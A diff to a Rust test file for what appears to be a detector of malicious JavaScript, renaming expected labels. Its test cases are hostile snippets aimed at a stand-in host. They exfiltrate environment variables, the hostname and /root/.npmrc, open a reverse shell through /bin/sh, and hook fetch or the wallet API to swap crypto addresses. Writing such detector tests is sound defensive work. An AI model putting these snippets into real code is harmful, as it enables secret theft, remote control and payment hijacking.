@@ -240,7 +240,7 @@ fn what_flows_is_followed() {
         ("fetch(process.env.NODE_ENV)", &["env->net"]),
         (
             "const https = require('https'), os = require('os'); const r = https.request({ host: 'a.invalid' }); r.write(os.hostname()); r.end()",
-            &["host->net"],
+            &["host-info->net"],
         ),
         (
             "const fs = require('fs'), os = require('os'), path = require('path');
@@ -260,7 +260,7 @@ fn what_flows_is_followed() {
         ("function send(d) { fetch('https://a.invalid', { body: d }) } send(JSON.stringify(process.env))", &["env-all->net"]),
         ("function get() { return process.env } fetch('https://a.invalid', { body: get() })", &["env-all->net"]),
         ("require('fs').readFile('/root/.npmrc', (e, d) => fetch('https://a.invalid', { body: d }))", &["secret-file->net"]),
-        ("require('dns').lookup(require('os').hostname() + '.a.invalid')", &["host->dns"]),
+        ("require('dns').lookup(require('os').hostname() + '.a.invalid')", &["host-info->net"]),
         ("const out = []; out.push(process.env); fetch('https://a.invalid', { body: out })", &["env-all->net"]),
     ];
     for (code, expected) in cases {
@@ -312,7 +312,7 @@ fn shapes_and_guards_are_seen() {
         ("if (require('os').hostname() !== 'DESKTOP-1') require('child_process').exec('ls')", "host"),
         ("const f = window.fetch; window.fetch = function (a) { return f(a) }", "prototype-hook"),
         ("window.ethereum.request = async a => g(a)", "wallet-hook"),
-        ("const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a)", "wallet-hook"),
+        ("const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a).replace(r, mine)", "wallet-hook"),
         (
             "const n = require('net'), c = require('child_process'); const s = n.connect(1, 'a.invalid'); const p = c.spawn('/bin/sh', []); s.pipe(p.stdin)",
             "reverse-shell",
